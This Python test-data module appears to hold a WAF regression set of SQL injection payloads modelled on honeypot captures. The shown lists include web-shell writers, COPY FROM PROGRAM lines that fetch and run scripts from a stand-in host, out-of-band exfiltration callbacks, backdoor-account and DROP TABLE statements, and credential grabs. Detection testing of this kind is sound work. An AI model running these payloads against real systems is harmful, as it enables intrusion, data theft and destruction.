"""Blind set "hundredsixtythird": SQL and NoSQL injection the way honeypots and web-server logs capture it, with
benign requests that carry the same words innocently.

The angle: honeypot captures, recalled from memory. Nobody hand-crafts these: mass scanners, botnets and
exploit kits spray the same strings at every host they find. The set writes them the way they arrive: the
fingerprinting probes of sqlmap, Havij, Acunetix and Nuclei-style templates (their random four-digit
tautologies, `0x71...71` markers, `if(now()=sysdate(),sleep(15),0)`), out-of-band callbacks to collaborator-style
hosts, the MySQL `INTO OUTFILE` web-shell writers and UDF droppers that fetch a Mirai-style binary, the PostgreSQL
`COPY ... FROM PROGRAM` cryptominer droppers, the SQL Server worms that switch on xp_cmdshell and pull a
PowerShell stager, the old mass defacement cursor that appends a script tag to every text column, credential and
config grabs (wp_users, mysql.user, pg_shadow, web.config, wp-config.php), and the noise around them: double
URL encoding, IIS `%u` and overlong UTF-8, best-fit apostrophes, doubled parameters, and payloads glued to a
legitimate-looking value (`london' AND ...`). Each list carries a comment naming its family and its target
(MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, MongoDB, and the product a campaign aims at:
WordPress, Joomla, Magento, Zabbix, Rocket.Chat).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Captured requests that are whole query strings (doubled
parameters, PHP bracket operators, product exploits such as Joomla's `list[fullordering]` or Magento's
`popularity[field_expr]`) go as raw `name=value` pairs into the admin form and a raw body; whole MongoDB
documents go as the JSON body. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, honeypot
and access-log captures as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredsixtythird"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document as the body
KV = ("form", "rs-raw-body")   # a captured query string, sent as raw `name=value` pairs

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: the short token streams scanners send first to see whether a parameter reaches SQL
LIBINJECTION: list[Entry] = [
    # generic (MySQL, PostgreSQL, SQL Server, SQLite): quote break-outs every scanner opens with
    "1' AND '1'='1",
    "1 AND 1=1",
    "-1' OR 1=1-- -",
    "x' or 'x'='x",
    "1' or '1'='1' /*",
    "1 or 1=1#",
    "' or 1 -- -",
    "' OR 'unusual'='unusual",
    "1 AND 'k'='k'",
    "1 or true",
    "-1' or true-- -",
    "' or 0=0 #",
    "\" or 0=0 --",
    "') or true--",
    "admin') or ('a'='a",
    "1\" AND \"1\"=\"1",
    "1' AND 'a'<'b",
    # sqlmap's boolean pairs with their random numbers and tags, glued to the parameter's own value (MySQL)
    "london' AND 8374=8374 AND 'yDzH'='yDzH",
    "42) AND 6710=6710 AND (9551=9551",
    "1%' AND 2817=2817 AND '%'='",
    "-5723 OR 8911=8911#",
    "1' AND 4681=4681#",
    "1 AND 3=3-- qWeR",
    # sqlmap's MySQL-only boolean forms: RLIKE with a CASE, ELT and MAKE_SET
    "1' RLIKE (SELECT (CASE WHEN (4139=4139) THEN 1 ELSE 0x28 END))-- Gwch",
    "1 AND ELT(6542=6542,2053)",
    "1' AND MAKE_SET(5121=5121,7843)-- cRzT",
    # PostgreSQL / Oracle string concatenation operator breaking out of a quoted value
    "1'||'1",
    # the Jeeves weather location glued to a LIMIT-ed tautology (MySQL)
    "weather' OR 1=1 LIMIT 1-- -",
]

# sql-tautology-boolean: true/false pairs a crawler sends to infer rows blind
TAUTOLOGY: list[Entry] = [
    # generic numeric and string context, the false half of each pair
    "1 AND 1=2",
    "1' AND 2=3-- -",
    "1 AND 7245=7246",
    "1' AND 'ZXeV'='ZXeX",
    # Acunetix's arithmetic tautologies (MySQL, SQL Server, PostgreSQL)
    "-1' OR 2+149-149-1=0+0+0+1 -- ",
    "-1 OR 2+672-672-1=0+0+0+1",
    "-1\" OR 2+118-118-1=0+0+0+1 -- ",
    "1 OR 3*2*1=6 AND 000767=000767",
    "1' OR 3*2>(0+5+957-957) -- ",
    # subquery-backed conditions (MySQL, Oracle's DUAL)
    "1 AND (SELECT 'x' FROM DUAL)='x'",
    "1' AND (SELECT COUNT(*) FROM users)>0-- -",
    "1 AND 1 IN (SELECT 1)",
    "1' AND 1=(SELECT 1 FROM dual)-- -",
    # comparison shapes that dodge a literal 1=1 (generic)
    "1 OR 'a'='a'",
    "x' OR 'a'<>'b",
    "1 OR 2>1",
    "1' OR NOT 1=2-- -",
    "1 AND 1=1 AND 'abc'='abc'",
    "' OR 1=1 AND ''='",
    "1' OR 'x' IS NOT NULL-- -",
    "1 or (1)=(1)",
    "1' AND TRUE-- -",
    "1' AND FALSE-- -",
    "(1)OR(1=1)",
    # MySQL's || and && as logical operators (default sql_mode)
    "1 || 1=1",
    "'||1=1||'",
    "1' && 2>1#",
    # PostgreSQL cast in the condition
    "1 AND 1::int=1",
]

# sql-comment-sequence: injections that comment out the rest of the query
COMMENT: list[Entry] = [
    # MySQL: hash and C comments after a login name
    "admin'#",
    "admin'/*",
    "admin\"#",
    # generic: double dash followed by a space-like character
    "1'-- -",
    "1;--",
    "1'))-- -",
    "x'; -- comment",
    "1' OR 1=1 -- ;",
    "1' or 1=1 #-- ",
    "1 AND 1=1 --/*",
    "' or 1=1/*",
    "1' and 'a'='a'/*",
    "1'--+-",
    "\"; --",
    "1' OR 1=1;#",
    "1) OR 1=1 -- -",
    # comments as whitespace between every token (MySQL, PostgreSQL, SQLite)
    "1'/**/AND/**/1=1/**/-- -",
    "')/**/or/**/1=1--",
    "1'/*comment*/OR/*comment*/'1'='1",
    # a line comment ended by a newline, so the condition runs on the next line (MySQL)
    "1'#foo\nOR 1=1-- -",
    "1 -- x\nOR 1=1",
    # a NUL byte truncating the query in a C-based driver (PHP's old mysql extension)
    "1' or 1=1\x00",
    # SQL Server and Oracle: the CRLF a Windows client leaves after the comment
    "1' OR 1=1 --\r\n",
    # SQLite: statement terminator then comment
    "1' OR 1=1; --",
    # a comment opened and never closed (MySQL swallows the rest)
    "1' UNION SELECT 1,2/*",
    # the URL-encoded comment left over when a bot encodes its payload once too often (MySQL, double decoding)
    "1 OR 1=1 --%0a",
    "admin'%23",
    "1'--%20",
]

# union-select: column spraying and data pulls; the Havij and sqlmap markers as they appear in access logs
UNION: list[Entry] = [
    # Havij's legacy marker query (MySQL, SQL Server)
    "999999.9 union all select 0x31303235343830303536,0x31303235343830303536--",
    # generic column count discovery with NULLs
    "-1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "1') UNION SELECT NULL,NULL,NULL,NULL-- -",
    "' UNION SELECT NULL,NULL FROM DUAL WHERE 1=1 -- ",
    "-1 union select 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20--",
    "1 union select 1,2,3,4,5,6,7,8--",
    "1 UNION DISTINCT SELECT 1,2,3#",
    "1 union(select 1,2,3)",
    # sqlmap's marker strings (MySQL)
    "1' UNION ALL SELECT NULL,CONCAT(0x7178767671,0x4f6e416d,0x716a786b71),NULL-- -",
    "-7381' UNION ALL SELECT CONCAT(0x71716b7871,IFNULL(CAST(user() AS NCHAR),0x20),0x717a6b7071),NULL#",
    # MySQL credential grabs
    "-1 union select 1,group_concat(user,0x3a,password),3 from mysql.user--",
    "1' union select username,password from users-- -",
    "1' UNION SELECT @@version,NULL-- -",
    "0 UNION SELECT 1,version(),database(),user()",
    "' UNION SELECT 1,@@hostname,@@datadir-- -",
    # SQL Server, Oracle, PostgreSQL, SQLite versions of the same grab
    "' UNION SELECT name,password_hash FROM sys.sql_logins--",
    "' UNION SELECT banner,NULL FROM v$version--",
    "' UNION SELECT usename,passwd FROM pg_shadow--",
    "' UNION SELECT sql,NULL FROM sqlite_master--",
    "1 UNION SELECT NULL,credentials FROM accounts LIMIT 1 OFFSET 0--",
    # WordPress plugin campaigns: the admin hash out of wp_users (MySQL)
    "-1 UNION SELECT 1,concat(user_login,0x3a,user_pass),3 FROM wp_users--",
    # Joomla 1.5 era component exploits still sprayed today (MySQL)
    "-1 union select 1,concat(username,0x3a,password),3 from jos_users-- -",
    # Magento customer dump (MySQL)
    "x' UNION SELECT 1,(SELECT GROUP_CONCAT(email,':',password_hash) FROM customer_entity),3-- -",
    # vBulletin user table with its salt (MySQL)
    "-1 UNION SELECT 1,CONCAT(username,0x3a,password,0x3a,salt),3 FROM user-- -",
    # file read through the union (MySQL, FILE privilege)
    "1 and 1=2 union select 1,load_file('/etc/passwd'),3--",
    # char() marker instead of a string (SQL Server, MySQL)
    "1 UNION SELECT CHAR(113,118,122,113),NULL--",
    # union glued to a location search (MySQL)
    "berlin' UNION SELECT user_id,api_token FROM tokens-- -",
]

# stacked-queries: a second statement after a semicolon (SQL Server, PostgreSQL, MySQL multi-query drivers)
STACKED: list[Entry] = [
    # the 2008-2011 mass defacement cursor (SQL Server, ASP sites): a script tag appended to every text column
    "';DECLARE @T VARCHAR(255),@C VARCHAR(255) DECLARE Table_Cursor CURSOR FOR SELECT a.name,b.name FROM "
    "sysobjects a,syscolumns b WHERE a.id=b.id AND a.xtype='u' AND (b.xtype=99 OR b.xtype=35 OR b.xtype=231 OR "
    "b.xtype=167) OPEN Table_Cursor FETCH NEXT FROM Table_Cursor INTO @T,@C WHILE(@@FETCH_STATUS=0) BEGIN "
    "EXEC('UPDATE ['+@T+'] SET ['+@C+']=RTRIM(CONVERT(VARCHAR(4000),['+@C+']))+''<script "
    "src=http://cdn.example.net/ngg.js></script>''') FETCH NEXT FROM Table_Cursor INTO @T,@C END CLOSE "
    "Table_Cursor DEALLOCATE Table_Cursor--",
    # skid destruction (generic)
    "1; DROP TABLE users--",
    "1';TRUNCATE TABLE logs;--",
    "1; DELETE FROM audit_log;--",
    "1; SHUTDOWN WITH NOWAIT;--",
    # backdoor accounts (MySQL 8, SQL Server, PostgreSQL)
    "1'; INSERT INTO users(username,password,role) VALUES('sysadm','x','admin')-- -",
    "1; CREATE USER 'backdoor'@'%' IDENTIFIED BY 'P@ss1';GRANT ALL PRIVILEGES ON *.* TO 'backdoor'@'%';--",
    "1';CREATE LOGIN hax WITH PASSWORD='Hax0r!2024';EXEC sp_addsrvrolemember 'hax','sysadmin';--",
    "1'; ALTER USER postgres WITH PASSWORD 'changeme';--",
    "1; UPDATE users SET is_admin=1 WHERE username='guest';--",
    # WordPress takeover: admin password reset and open registration (MySQL, multi-query)
    "1; UPDATE wp_users SET user_pass=MD5('pwned') WHERE ID=1;--",
    "1; UPDATE wp_options SET option_value='1' WHERE option_name='users_can_register';--",
    # PostgreSQL miner droppers: COPY FROM PROGRAM into a scratch table
    "1'; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'wget -qO- http://203.0.113.50/ki.sh|sh';--",
    "1; DROP TABLE IF EXISTS t;CREATE TABLE t(c text);COPY t FROM PROGRAM 'id';SELECT * FROM t;--",
    "1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.50/xmr.sh -o /tmp/.x;sh /tmp/.x';--",
    # PostgreSQL old-school: libc's system() bound as a C function
    "1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "LANGUAGE C STRICT;SELECT sys('id');--",
    # Oracle: an anonymous PL/SQL block as the second statement
    "1'; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--",
    # SQLite: ATTACH a new database file in the web root and write PHP into it
    "1'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t "
    "VALUES('<?php system($_GET[0]); ?>');--",
    # MySQL: a hex-encoded statement run through PREPARE (web shell writer)
    "1';SET @a=0x53454c45435420273c3f706870206576616c28245f504f53545b315d293b3f3e2720494e544f204f555446494c45"
    "20272f7661722f7777772f68746d6c2f312e70687027;PREPARE s FROM @a;EXECUTE s;#",
    # SQL Server: dynamic SQL split to dodge a keyword filter
    "1'; EXEC('SEL'+'ECT name FROM master..sysdatabases');--",
    "1);WAITFOR DELAY '00:00:05';--",
    # Magento "Shoplift" (CVE-2015-1397), decoded: a new admin_user and its role through popularity[field_expr]
    ("popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);SET @SALT = 'rp';SET @PASS = "
     "CONCAT(MD5(CONCAT( @SALT , 'forme') ), CONCAT(':', @SALT ));SELECT @EXTRA := MAX(extra) FROM admin_user "
     "WHERE extra IS NOT NULL;INSERT INTO `admin_user` (`firstname`,`lastname`,`email`,`username`,`password`,"
     "`created`,`lognum`,`reload_acl_flag`,`is_active`,`extra`,`rp_token`,`rp_token_created_at`) VALUES "
     "('Firstname','Lastname','mail@example.com','forme',@PASS,NOW(),0,0,1,@EXTRA,NULL, NOW());INSERT INTO "
     "`admin_role` (parent_id,tree_level,sort_order,role_type,user_id,role_name) VALUES (1,2,0,'U',(SELECT "
     "user_id FROM admin_user WHERE username = 'forme'),'Firstname');",) + KV,
    # the same id parameter sent twice, the second copy carrying the statement (PHP keeps the last, ASP joins)
    ("id=7&id=7;DROP TABLE sessions--",) + KV,
    # SQL Server: a login's sysadmin role checked and granted in one go
    "1;IF IS_SRVROLEMEMBER('sysadmin')=1 EXEC('ALTER SERVER ROLE sysadmin ADD MEMBER guest');--",
]

# time-based-blind: sleep/benchmark/pg_sleep/waitfor as mass scanners send them
TIME: list[Entry] = [
    # Acunetix's MySQL and SQL Server time probes, verbatim shapes from every access log
    "if(now()=sysdate(),sleep(15),0)",
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    "0\"XOR(if(now()=sysdate(),sleep(15),0))XOR\"Z",
    "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+"
    "(select(0)from(select(sleep(15)))v)+\"*/",
    "-1; waitfor delay '0:0:15' -- ",
    "-1); waitfor delay '0:0:15' -- ",
    "1 waitfor delay '0:0:15' -- ",
    "-5 OR 581=(SELECT 581 FROM PG_SLEEP(15))--",
    "-5) OR 194=(SELECT 194 FROM PG_SLEEP(15))--",
    "'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||'",
    # sqlmap: MySQL nested SLEEP, BENCHMARK, PostgreSQL, SQL Server, Oracle, SQLite heavy query
    "1' AND (SELECT 5120 FROM (SELECT(SLEEP(5)))dVzA)-- LNpX",
    "1 AND SLEEP(5)",
    "1' AND BENCHMARK(5000000,MD5(0x41))-- -",
    "1';SELECT PG_SLEEP(5)--",
    "1) AND 9376=(SELECT 9376 FROM PG_SLEEP(5)) AND (4412=4412",
    "1; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "1' AND 7021=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))-- ",
    "1' AND 3516=DBMS_PIPE.RECEIVE_MESSAGE(CHR(120)||CHR(76)||CHR(86)||CHR(87),5)-- ",
    # template-scanner shapes (MySQL, PostgreSQL)
    "(select*from(select(sleep(7)))a)",
    "1'XOR(SELECT*FROM(SELECT(SLEEP(5)))a)XOR'Z",
    "'||pg_sleep(5)--",
    "' OR SLEEP(5)='",
    "\" or sleep(5)=\"",
    "sleep(5)#",
    # SQL Server heavy query instead of WAITFOR
    "1 AND (SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3)>0",
    # MySQL conditional delays that extract a bit per request
    "1 RLIKE SLEEP(5)",
    "1' AND IF(SUBSTRING(version(),1,1)='8',SLEEP(5),0)-- -",
    "if(1=1,sleep(5),0)",
    # PostgreSQL conditional delay on the current role
    "1; SELECT CASE WHEN (current_user='postgres') THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    # sleep glued to a city name from the weather command (MySQL)
    "paris' and sleep(5) and '1'='1",
]

# error-based: extractvalue/updatexml/convert/cast turning data into an error message
ERROR: list[Entry] = [
    # MySQL XPath errors, the markers Nuclei-style templates look for
    "1 AND extractvalue(1,concat(0x7e,(select user()),0x7e))",
    "1' AND updatexml(1,concat(0x7e,version()),1)-- -",
    "extractvalue(1,concat(char(126),md5(1234567890)))",
    "' and extractvalue(rand(),concat(0x3a,(select concat(user_login,0x3a,user_pass) from wp_users limit 1)))-- -",
    # Zabbix jsrpc.php profileIdx2 (CVE-2016-10134), the value as sprayed
    "updatexml(0,concat(0xa,user()),0)",
    # Joomla 3.7 com_fields list[fullordering] (CVE-2017-8917), the query string as sprayed
    ("option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)",) + KV,
    # MySQL duplicate-key error on GROUP BY with FLOOR(RAND(0)*2)
    "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables "
    "GROUP BY x)a)",
    "1 AND row(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),database(),FLOOR(RAND(0)*2))x FROM "
    "information_schema.tables GROUP BY x)",
    # MySQL overflow, GTID, JSON, geometry and NAME_CONST errors
    "1 AND EXP(~(SELECT * FROM (SELECT user())a))",
    "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@version),0x7e),1)",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,database(),0x7e)) USING utf8)))",
    "1' AND polygon((select * from (select * from (select @@version)f)x))-- -",
    "1' AND ST_LatFromGeoHash(version())-- -",
    "1 AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))a)",
    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71,0x78))s), "
    "8446744073709551610, 8446744073709551610)))-- -",
    # MySQL < 5.6 PROCEDURE ANALYSE with an XPath error
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
    # SQL Server conversion errors
    "1' AND 1=CONVERT(int,(SELECT @@version))--",
    "' + convert(int, db_name()) + '",
    "1' AND 4513 IN (SELECT (CHAR(113)+CHAR(112)+(SELECT SUBSTRING((ISNULL(CAST(@@version AS NVARCHAR(4000)),"
    "CHAR(32))),1,100))+CHAR(113)))-- ",
    "1' AND 1=(SELECT TOP 1 CAST(name AS int) FROM sys.databases)--",
    # PostgreSQL cast errors
    "1' AND 1=CAST((SELECT current_user) AS int)--",
    "1 AND 7412=CAST((CHR(113)||CHR(106)||CHR(122))||(SELECT version())::text||(CHR(113)||CHR(122)) AS NUMERIC)",
    "1 AND 1=(SELECT CAST(string_agg(usename,',') AS int) FROM pg_user)",
    # Oracle error functions
    "1' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--",
    "1 AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))",
    "1' AND 1=XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))--",
    # MySQL GROUP BY error without a subquery
    "1 or 1 group by concat(version(),floor(rand(0)*2)) having min(0)-- -",
]

# out-of-band: load_file / into outfile / xp_dirtree / utl_http / dblink; collaborator-style callbacks and files
OOB: list[Entry] = [
    # MySQL on Windows: LOAD_FILE of a UNC path leaks data in the DNS name
    "' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user WHERE user='root' LIMIT 1),"
    "'.c5k2r.oast.example\\\\a'))-- -",
    "'+(select load_file('\\\\\\\\x9z.oastify.example\\\\a'))+'",
    "1 AND (SELECT LOAD_FILE(CONCAT(0x5c5c,version(),0x2e6f6173742e6578616d706c655c61)))",
    # SQL Server: UNC through xp_dirtree, xp_fileexist, xp_subdirs
    "1; EXEC master..xp_dirtree '\\\\q2.oast.example\\a';--",
    "1';declare @q varchar(99);set @q='\\\\'+(select top 1 name from sys.sql_logins)+'.oast.example\\x';"
    "exec master.dbo.xp_fileexist @q;--",
    "1;exec master..xp_subdirs '\\\\203.0.113.14\\share';--",
    # Oracle: UTL_HTTP, UTL_INADDR, DBMS_LDAP, HTTPURITYPE and the XXE in EXTRACTVALUE
    "'||UTL_HTTP.REQUEST('http://oast.example/'||(SELECT user FROM dual))||'",
    "' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oast.example')--",
    "1 AND (SELECT DBMS_LDAP.INIT((SELECT user FROM dual)||'.oast.example',80) FROM dual) IS NOT NULL",
    "' AND HTTPURITYPE('http://oast.example/'||(SELECT user FROM dual)).getclob() IS NOT NULL--",
    "' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY "
    "% remote SYSTEM \"http://'||(SELECT user FROM dual)||'.oast.example/\"> %remote;]>'),'/l') FROM dual--",
    # PostgreSQL: dblink to an attacker host, COPY TO PROGRAM with a DNS lookup, file writes and reads
    "1; SELECT dblink_connect('host='||(SELECT current_user)||'.oast.example user=a password=b dbname=c');--",
    "1'; COPY (SELECT 1) TO PROGRAM 'nslookup $(whoami).oast.example';--",
    "1'; COPY (SELECT '<?php system($_GET[\"c\"]); ?>') TO '/var/www/html/c.php';--",
    "1; SELECT pg_read_file('/etc/passwd');--",
    "1' UNION SELECT NULL,pg_read_file('postgresql.auto.conf')--",
    # MySQL INTO OUTFILE / DUMPFILE: web shells and the UDF library a bot drops before its miner
    "1' UNION SELECT 1,'<?php eval($_POST[\"x\"]);?>' INTO OUTFILE '/var/www/html/x.php'-- -",
    "1 INTO OUTFILE '/var/www/html/up.php' LINES TERMINATED BY "
    "0x3c3f7068702073797374656d28245f4745545b2263225d293b203f3e",
    "1' UNION SELECT 0x7f454c4602010100000000000000000003003e00 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'-- -",
    # MySQL LOAD_FILE config and key grabs
    "' UNION SELECT NULL,LOAD_FILE('/etc/passwd')-- -",
    "1 UNION SELECT LOAD_FILE('/var/www/html/wp-config.php')",
    "1 UNION SELECT '',LOAD_FILE('/root/.ssh/id_rsa')",
    "1' UNION SELECT LOAD_FILE('/var/www/html/.env'),2-- -",
    # SQL Server: OPENROWSET BULK read of an IIS config, and OPENROWSET to a remote server
    "1;SELECT * FROM OPENROWSET(BULK 'C:\\inetpub\\wwwroot\\web.config',SINGLE_CLOB) AS x--",
    "1;SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.14;uid=sa;pwd=x','SELECT 1')--",
    # MySQL SELECT ... INTO OUTFILE of a whole credentials table to the web root
    "1'; SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'-- -",
]

# information-schema-probing: catalog dumps (tables, columns, logins)
CATALOG: list[Entry] = [
    # MySQL information_schema
    "1 UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()-- -",
    "-1' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE "
    "table_name='wp_users'-- -",
    "' UNION SELECT schema_name,NULL FROM information_schema.schemata-- -",
    "-2 UNION ALL SELECT CONCAT(0x71786b7a71,IFNULL(CAST(schema_name AS NCHAR),0x20),0x7176707071) FROM "
    "INFORMATION_SCHEMA.SCHEMATA#",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "1' AND (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1) "
    "LIKE 'u%'-- -",
    "1' and (select count(table_name) from information_schema.tables where table_schema=database())=5-- -",
    "' UNION SELECT variable_name,variable_value FROM performance_schema.global_variables-- -",
    # MySQL without information_schema (a filter on the word): innodb stats and the mysql schema
    "' UNION SELECT group_concat(table_name),2 FROM mysql.innodb_table_stats-- -",
    "' UNION SELECT user,authentication_string FROM mysql.user-- -",
    "' UNION SELECT host,user FROM mysql.user-- -",
    # SQL Server catalogs
    "' UNION SELECT name,NULL FROM master..sysdatabases--",
    "' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--",
    "' UNION SELECT TABLE_NAME,COLUMN_NAME FROM INFORMATION_SCHEMA.COLUMNS--",
    "' UNION SELECT name,type_desc FROM sys.tables--",
    "1 AND 1=(SELECT COUNT(*) FROM sys.columns WHERE object_id=OBJECT_ID('users'))",
    "' UNION SELECT loginname,NULL FROM master..syslogins WHERE sysadmin=1--",
    "'; SELECT * FROM fn_my_permissions(NULL,'SERVER')--",
    # PostgreSQL catalogs
    "' UNION SELECT tablename,NULL FROM pg_tables WHERE schemaname='public'--",
    "' UNION SELECT datname,NULL FROM pg_database--",
    "1 AND (SELECT COUNT(*) FROM pg_catalog.pg_namespace)>0",
    "' UNION SELECT rolname,rolpassword FROM pg_authid--",
    # Oracle dictionary views
    "' UNION SELECT table_name,NULL FROM all_tables--",
    "' UNION SELECT column_name,NULL FROM all_tab_columns WHERE table_name='USERS'--",
    "' UNION SELECT username,NULL FROM all_users--",
    # SQLite schema tables
    "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--",
    "1 UNION SELECT tbl_name,NULL FROM sqlite_schema",
    # product config grabs: Magento's crypt key, WordPress siteurl (MySQL)
    "' UNION SELECT path,value FROM core_config_data WHERE path LIKE '%crypt%'-- -",
    "-1 UNION SELECT 1,option_value,3 FROM wp_options WHERE option_name='siteurl'-- -",
]

# mysql-comment-obfuscation: version comments and comment whitespace from bots' tamper options (MySQL/MariaDB)
MYCOMMENT: list[Entry] = [
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -",
    "-1'/*!12345UNION*//*!12345SELECT*/1,user(),3#",
    "1/*!AND*/1=1",
    "1 /*!00000AND*/ SLEEP(5)",
    "1'/**/UNION/**/SELECT/**/NULL,NULL#",
    "1'/*!or*/'1'='1",
    "/*!50000select*/ /*!50000concat*/(0x7e,user())",
    "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2",
    "1'/*!50000or*/1=1-- -",
    "' /*!UNION*/ ALL /*!SELECT*/ username,password FROM users-- -",
    "1/*!50000AnD*/(SELECT/**/1/**/FROM/**/(SELECT(SLEEP(5)))a)",
    "1 /*!*/AND/*!*/1=1",
    "1/*foo*/OR/*bar*/1=1",
    "1'/*!32302AND*/1=1#",
    "1 /*!40000UNION ALL SELECT*/ @@version,2",
    "-1/**/UNION/**/SELECT/**/group_concat(user_login,0x3a,user_pass)/**/FROM/**/wp_users",
    "1/**_**/union/**_**/select 1,2",
    "1'/*!*/UNION/*!*/SELECT/*!*/1,2,3#",
    "-1 /*!UNION*/ /*!SELECT*/ CONCAT_WS(0x3a,user(),database(),version())-- -",
    "1 /*!50000aNd*/ 1=(/*!50000SeLeCt*/ 1)",
    "1 /*! AND 2>1 */",
    "1'/*!50000UNION*//*!50000ALL*//*!50000SELECT*/1,load_file(0x2f6574632f706173737764)#",
    # hash comment plus newline between keywords
    "1#\nUNION#\nSELECT 1,2,3",
    "1 -- -\nUNION -- -\nSELECT 1,2",
    # the same hash/newline trick as it arrives once URL-encoded too many times
    "1%23%0AUNION%23%0ASELECT 1,2",
    # parameter pollution: ASP.NET joins the copies with commas, the comments swallow the names
    ("id=1/*&id=*/union/*&id=*/select 1,2,3",) + KV,
    ("q=1/*&q=*/OR/*&q=*/1=1-- -",) + KV,
    "1'/*!50000%55NION*/ /*!50000%53ELECT*/ 1,2-- -",
]

# function-based-probing: substring/ascii/char/concat blind extraction, one character a request
FUNCTION: list[Entry] = [
    # MySQL
    "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>100",
    "1' AND ORD(MID((SELECT IFNULL(CAST(user AS NCHAR),0x20) FROM mysql.user ORDER BY user LIMIT 0,1),1,1))>64-- -",
    "1' AND SUBSTRING(@@version,1,1)='5",
    "1 AND LENGTH(database())=8",
    "1' AND CHAR_LENGTH(user())>5-- -",
    "1 AND MID(version(),1,1)=8",
    "1' AND LEFT(database(),1)='w'-- -",
    "1 AND CONCAT(0x71,0x71)=0x7171",
    "1' AND BIN(ASCII(SUBSTRING(user(),1,1)))>1000000-- -",
    "1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='administrator')='a",
    "1 AND STRCMP(SUBSTRING(user(),1,1),'r')=0",
    "1' AND (SELECT IF(ASCII(SUBSTRING(table_name,1,1))>100,1,0) FROM information_schema.tables LIMIT 1)-- -",
    "1' AND LOCATE('root',user())=1-- -",
    "1' AND INSTR(version(),'MariaDB')>0-- -",
    "1 AND POSITION(0x72 IN user())=1",
    "1' AND REVERSE(SUBSTRING(user(),1,4))='toor'-- -",
    "1' AND SUBSTRING_INDEX(user(),'@',1)='root'-- -",
    "1 AND ROUND(ASCII(MID(database(),1,1))/2)>50",
    # SQL Server
    "1' AND UNICODE(SUBSTRING((SELECT TOP 1 name FROM sys.databases),1,1))>77--",
    "1' AND (SELECT CASE WHEN (ASCII(SUBSTRING(DB_NAME(),1,1))>70) THEN 1 ELSE 1/0 END)=1--",
